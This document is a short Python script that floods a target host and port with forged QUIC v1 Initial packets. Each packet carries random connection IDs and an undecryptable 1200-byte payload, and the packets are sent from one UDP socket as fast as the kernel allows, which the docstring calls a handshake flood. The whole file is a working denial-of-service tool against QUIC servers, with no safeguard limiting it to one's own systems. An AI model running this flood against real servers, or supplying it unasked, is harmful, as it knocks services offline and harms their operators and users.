#!/usr/bin/env python3
"""Sends COUNT QUIC v1 Initial packets (1200 bytes, random connection IDs,
undecryptable payload) to HOST PORT from one UDP socket, as fast as the
kernel takes them: a handshake flood from one source address.
Usage: initial_flood.py HOST PORT COUNT"""
import os
import socket
import sys


def initial():
    dcid, scid = os.urandom(8), os.urandom(8)
    head = bytes([0xC3]) + (1).to_bytes(4, "big") + bytes([8]) + dcid + bytes([8]) + scid
    head += bytes([0])  # token length
    rest = 1200 - len(head) - 2
    head += (0x4000 | rest).to_bytes(2, "big")  # Length: packet number + payload
    return head + os.urandom(rest)


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    for _ in range(count):
        s.sendto(initial(), (host, port))


if __name__ == "__main__":
    main()
